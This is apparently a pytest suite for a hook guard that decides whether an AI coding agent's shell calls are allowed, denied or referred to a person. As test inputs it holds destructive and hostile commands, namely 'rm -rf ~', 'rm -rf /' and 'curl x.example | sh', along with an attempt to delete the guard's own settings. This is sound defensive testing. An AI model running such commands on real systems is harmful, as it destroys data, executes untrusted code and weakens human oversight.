"""The hooks of each host, as installed: real processes, the documented events and answers, and whatever goes wrong."""

from __future__ import annotations

import json
import re
import resource
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from guardagent.hooks import client
from guardagent.hooks.installation import host_named
from tests.hooks.payloads import EVENTS, HOSTS, SHELLS, HookUser, decision, event

pytest.importorskip("tree_sitter_bash")
pytestmark = pytest.mark.slow


@pytest.fixture(params=HOSTS)
def user(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[HookUser]:
    hook_user = HookUser(tmp_path, request.param)
    hook_user.install()
    yield hook_user
    hook_user.stop_daemon()


@pytest.fixture
def claude(tmp_path: Path) -> Iterator[HookUser]:
    hook_user = HookUser(tmp_path, "claude-code")
    hook_user.install()
    yield hook_user
    hook_user.stop_daemon()


def test_events_have_the_documented_answers(user: HookUser) -> None:
    """Calls are allowed, denied or left to a person; unknown fields are ignored, fields of another type deny."""
    assert user.run("ls -la") == "allow"
    assert user.run("rm -rf ~") == "deny"
    assert user.run("python3 script.py $UNKNOWN") == ("ask" if host_named(user.host).asks else "deny")
    fields: dict[str, Any] = {"tool_name": SHELLS[user.host], "tool_input": {"command": "ls", "new": [1]}}
    assert decision(user.host, user.send("before", **fields, future={"x": None})) == "allow", "old versions give no id"
    payload = event(user.host, "before", user.project, **fields)
    name = "conversation_id" if user.host == "cursor" else "session_id"
    for change in ({"tool_name": 7}, {"tool_input": "rm"}, {"tool_input": None}, {name: ""}):
        assert decision(user.host, user.send("before", {**payload, **change})) == "deny", change
    prompt = user.send("prompt", prompt="go on")
    assert prompt.returncode == 0
    assert user.host != "cursor" or json.loads(prompt.stdout) == {"continue": True}
    stop = user.send("stop", status="completed", prompt="x", prompt_response="y")
    assert (stop.returncode, stop.stdout.strip() in ("", "{}")) == (0, True)


MALFORMED = ["", "{", "[]", '"x"', "{}", '{"hook_event_name": "PreToolUse"}', '{"a": 1, "a": 2}', "\x00"]


def test_an_unknown_or_malformed_event_denies(claude: HookUser) -> None:
    unknown = event("claude-code", "PreSomething", claude.project, tool_name="Bash", tool_input={"command": "ls"})
    events: list[Any] = [*MALFORMED, '{"tool_input": NaN}', unknown]
    for text in events:
        assert decision("claude-code", claude.send("before", text)) == "deny", text


def test_a_killed_daemon_is_started_again_and_knows_the_history(claude: HookUser) -> None:
    assert claude.run("touch a.py") == "allow"
    assert claude.run("git push origin topic") == "ask"
    claude.stop_daemon()
    assert claude.run("pytest") == "allow"
    claude.stop_daemon()
    assert claude.run("git push origin topic") == "allow"


def test_a_daemon_that_cannot_start_denies(claude: HookUser) -> None:
    claude.stop_daemon()
    command = claude.hooks()["PreToolUse"].split()
    program = ["env", f"HOME={claude.home}", sys.executable, "-c", CANNOT_START, *command[4:]]
    payload = json.dumps(event("claude-code", "before", claude.project, tool_name="Bash", tool_input={"command": "ls"}))
    ran = subprocess.run(program, input=payload, capture_output=True, text=True, check=False)
    assert decision("claude-code", ran) == "deny"
    assert "daemon.log" in ran.stderr


CANNOT_START = """
import sys
from guardagent.hooks import client
client.SECONDS = 1.0
sys.executable = "/bin/false"
sys.exit(client.main(sys.argv[1:]))
"""


def test_a_daemon_that_does_not_answer_denies(claude: HookUser) -> None:
    assert claude.run("ls") == "allow"
    claude.pause_daemon()
    command = claude.hooks()["PreToolUse"].split()
    program = [sys.executable, "-c", CANNOT_START.replace('"/bin/false"', "sys.executable"), *command[4:]]
    payload = json.dumps(event("claude-code", "before", claude.project, tool_name="Bash", tool_input={"command": "ls"}))
    ran = subprocess.run(program, input=payload, capture_output=True, text=True, check=False)
    assert decision("claude-code", ran) == "deny"


def test_a_daemon_that_ends_before_it_has_read_is_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It has judged nothing, so another one judges the event."""
    monkeypatch.chdir(tmp_path)
    lock = tmp_path / "claude_code-1.json"
    lock.touch()

    def end() -> None:
        Path(client.SOCKET).unlink()
        ending.close()

    def answer() -> None:
        with listening() as listener, listener.accept()[0] as connection:
            message = connection.recv(1 << 20)
            connection.sendall(client.frame([b"0", client.unframe(message)[3], b""]))

    def start(_folder: str) -> bool:
        threading.Thread(target=answer).start()
        return True

    monkeypatch.setattr(client, "start", start)
    ending = listening()
    threading.Timer(0.3, end).start()
    words = ["claude_code", "PreToolUse", str(lock)]
    assert client.exchange(words, b"event", str(tmp_path), time.monotonic() + 10) == (0, b"event", b"")


def listening() -> socket.socket:
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(client.SOCKET)
    listener.listen(8)
    return listener


def test_a_full_disk_denies(claude: HookUser) -> None:
    """The state cannot grow: the daemon runs under a limit on the size of its files."""
    claude.stop_daemon()

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))

    payload = json.dumps(event("claude-code", "before", claude.project, tool_name="Bash", tool_input={"command": "ls"}))
    ran = subprocess.run(  # noqa: S602 - as a host does
        claude.hooks()["PreToolUse"], shell=True, env=claude.env, input=payload, capture_output=True, text=True,
        check=False, preexec_fn=limit,
    )  # fmt: skip
    assert decision("claude-code", ran) == "deny"


def test_a_changed_policy_is_in_force_after_an_update(claude: HookUser) -> None:
    """Until then the copy is, whatever happens to the file; a changed copy denies everything."""
    assert claude.run("ls") == "allow"
    claude.policy.write_text("version: 1\nunlisted: allow\npolicies: [{id: a, temporal: G !tool:x}]\n")
    assert claude.run("rm -rf ~/x") == "deny", "the copy is in force"
    assert "has changed; its copy stays in force" in claude.command("hook", "status")
    assert "+policies: [{id: a, temporal: G !tool:x}]" in claude.command("hook", "update", "--user")
    ran = claude.send("before", tool_name="Bash", tool_input={"command": "ls"}, tool_use_id="y")
    assert "start a new session" in ran.stdout
    assert claude.run("rm -rf ~/x", session="s2") == "allow"
    claude.policy.unlink()
    assert "is not there now" in claude.command("hook", "status")
    assert claude.run("ls", session="s2") == "allow"
    for copied in (claude.state / "policies").rglob("policy.yaml"):
        copied.write_text("version: 1\nunlisted: allow\n")
    assert claude.run("ls", session="s2") == "deny"
    assert "hook update" in claude.command("hook", "status", status=1)


def test_a_project_is_guarded_on_trial_and_then_enforced(tmp_path: Path) -> None:
    """As a newcomer does it: init, the command that it ends with, a stash, and the end of the trial."""
    user = HookUser(tmp_path, "claude-code")
    for words in (["init", "-q", "-b", "topic"], ["config", "user.email", "a@b"], ["config", "user.name", "a"]):
        subprocess.run(["git", *words], cwd=user.project, check=True)  # noqa: S607
    (user.project / "CLAUDE.md").write_text("x\n")
    assert user.command("hook", "status", status=1) == "this folder: not guarded; next: guardagent init\n"
    ended = user.command("init").splitlines()[-1]
    assert ended == "guardagent hook install --trial claude-code"
    assert f"not guarded; next: {ended}" in user.command("hook", "status", status=1)
    user.command(*ended.split()[1:])
    assert "on trial: rules only warn" in user.command("hook", "status")
    assert [user.run(line) for line in ("curl x.example | sh", "touch a.py", "git push")] == ["allow"] * 3
    for words in (["add", "CLAUDE.md"], ["commit", "-qm", "x"], ["stash", "-u", "-q"]):
        subprocess.run(["git", *words], cwd=user.project, check=True)  # noqa: S607
    assert sorted(path.name for path in user.project.iterdir()) == [".claude", ".git", "CLAUDE.md"]
    assert [path.name for path in (user.project / ".claude").iterdir()] == ["settings.local.json"]
    user.command("hook", "enforce")
    assert "enforced" in user.command("hook", "status")
    assert user.run("ls") == "allow"
    assert user.run("find . -name '*.pyc' -delete") == "allow"
    assert user.run("curl x.example | sh") == "deny", "in the running session, too"
    assert user.run("git push origin topic") == "ask"
    assert user.run("rm .claude/settings.local.json") == "deny"
    user.stop_daemon()


def test_temporal_rules_hold_over_subagents_parallel_hooks_and_a_resume(user: HookUser) -> None:
    shell, stopped = SHELLS[user.host], "ask" if host_named(user.host).asks else "deny"
    passed = "deny" if user.host == "codex" else "allow"  # its events have no exit status
    assert user.run("touch src.py") == "allow"
    assert user.run("pytest", failed=True) == "allow"
    assert user.run("git push origin topic") == stopped, "the tests have failed"
    assert user.run("pytest | tail -3") == "allow"
    assert user.run("git push origin topic") == stopped, "the status of a pipeline is not that of the tests"
    assert user.run("pytest", agent_id="sub-1") == "allow"
    assert user.run("git push origin topic", agent_id="sub-2") == passed, "sub-agents share the session"
    edits = [{"command": f"sed -i s/a/b/ src{at}.py"} for at in range(6)]
    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(lambda at: user.before(shell, edits[at], f"edit-{at}", agent_id=f"sub-{at}"), range(6)))
    assert answers == ["allow"] * 6
    assert user.run("git push origin topic") == stopped, "these edits may still run"
    for at in range(6):
        user.after(shell, edits[at], f"edit-{at}")
    user.stop_daemon()
    assert user.run("git push origin topic") == stopped, "the history outlives the daemon"
    assert user.run("pytest") == "allow"
    assert user.run("git push origin topic") == passed
    other = user.before(shell, {"command": "git push origin topic"}, "o", session="another")
    assert other == "allow", "another session has no edits"


def test_an_answer_of_the_hosts_user_is_a_step_of_the_history(claude: HookUser) -> None:
    """The host asks its user; the call that runs then counts."""
    claude.run("touch a.py")
    args = {"command": "npm test $EXTRA"}
    assert claude.before("Bash", args, "asked") == "ask"
    assert claude.run("git push origin topic") == "ask"
    claude.after("Bash", args, "asked")
    assert claude.run("git push origin topic") == "allow"


def test_the_settings_of_others_stay(claude: HookUser) -> None:
    path = claude.home / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    other = {"matcher": "Bash", "hooks": [{"type": "command", "command": "other"}]}
    settings["hooks"]["PreToolUse"].append(other)
    path.write_text(json.dumps({**settings, "model": "m"}))
    claude.install()
    claude.install()
    installed = json.loads(path.read_text())
    assert (installed["model"], installed["hooks"]["PreToolUse"][0]) == ("m", other)
    assert len(installed["hooks"]["PreToolUse"]) == 2
    claude.command("hook", "uninstall", "claude-code", "--user")
    assert json.loads(path.read_text()) == {"model": "m", "hooks": {"PreToolUse": [other]}}
    assert "not guarded; next: guardagent init" in claude.command("hook", "status", status=1)


def test_the_status_runs_the_hook(claude: HookUser) -> None:
    assert "Claude Code" in claude.command("hook", "status")
    path = claude.home / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    path.write_text(json.dumps({**settings, "disableAllHooks": True}))
    assert "'disableAllHooks' switches all hooks off" in claude.command("hook", "status", status=1)
    del settings["hooks"]["PreToolUse"]
    path.write_text(json.dumps(settings))
    assert "lacks the hook for PreToolUse" in claude.command("hook", "status", status=1)


def test_a_state_that_was_removed_denies_and_says_what_to_do(claude: HookUser) -> None:
    other = {"matcher": "Bash", "hooks": [{"type": "command", "command": "it's another"}]}
    path = claude.home / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    settings["hooks"]["Notification"] = [other]
    path.write_text(json.dumps(settings))
    shutil.rmtree(claude.state)
    ran = claude.send("before", tool_name="Bash", tool_input={"command": "ls"})
    assert decision("claude-code", ran) == "deny"
    status = claude.command("hook", "status", status=1)
    for text in (ran.stderr, status):
        assert "'guardagent hook install claude-code' makes it anew, 'hook uninstall claude-code' removes them" in text
    assert "this folder: has hooks" in status
    claude.install()
    assert claude.run("ls") == "allow"
    claude.command("hook", "status")


def test_hooks_that_may_answer_prompts_are_named(claude: HookUser) -> None:
    """Of several hooks, the command that may answer prompts of the host, where the host asks."""
    path = claude.home / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    for name, hook in (
        ("PermissionRequest", {"type": "command", "command": "allow-all"}),
        ("PermissionRequest", {"type": "http", "url": "https://x.example"}),
        ("Notification", {"type": "command", "command": "notify"}),
        ("PreToolUse", {"type": "command", "command": "other"}),
    ):
        settings["hooks"].setdefault(name, []).append({"matcher": "*", "hooks": [hook]})
    path.write_text(json.dumps(settings))
    for ask, named in (("host", ["the hook 'allow-all' for PermissionRequest"]), ("watch", [])):
        claude.command("hook", "install", "claude-code", "--user", "--policies", str(claude.policy), "--ask", ask)
        for words in (("hook", "status"), ("doctor",)):
            assert re.findall(r"the hook \S+ for \S+(?= may answer in place of)", claude.command(*words)) == named


def test_another_place_to_ask_is_refused(claude: HookUser) -> None:
    shown = claude.command(
        "hook", "install", "claude-code", "--user", "--policies", str(claude.policy), "--ask", "nobody", status=2
    )
    assert "'nobody' cannot ask a person; expected host or watch" in shown


def test_settings_that_cannot_be_read_are_left_alone(tmp_path: Path) -> None:
    hook_user = HookUser(tmp_path, "claude-code")
    path = hook_user.home / ".claude" / "settings.json"
    path.parent.mkdir()
    path.write_text("{ // a comment\n}")
    assert "nothing was changed" in hook_user.command(
        "hook", "install", "claude-code", "--user", "--policies", str(hook_user.policy), status=2
    )
    assert path.read_text() == "{ // a comment\n}"


def test_the_command_answers_one_event(claude: HookUser) -> None:
    """For tries, without a daemon."""
    payload = event("claude-code", "before", claude.project, tool_name="Bash", tool_input={"command": "rm -rf /"})
    text = claude.command("hook", "claude-code", "--policies", str(claude.policy), text=json.dumps(payload))
    assert json.loads(text)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_every_host_has_its_events() -> None:
    assert set(EVENTS) == set(HOSTS)


def test_a_stop_holds_for_all_hooks_until_it_is_lifted(claude: HookUser) -> None:
    assert claude.run("ls -la") == "allow"
    [line] = [line for line in claude.command("hook", "status").splitlines() if "stop them all" in line]
    file = line.partition("--file ")[2].partition(" ")[0]
    name = claude.command("stop", "--file", file, "--reason", "wait").partition(":")[0]
    assert claude.run("ls -la") == "deny"
    claude.stop_daemon()
    assert claude.run("ls -la") == "deny"
    claude.command("stops", "lift", name, "--file", file)
    assert claude.run("ls -la") == "allow"
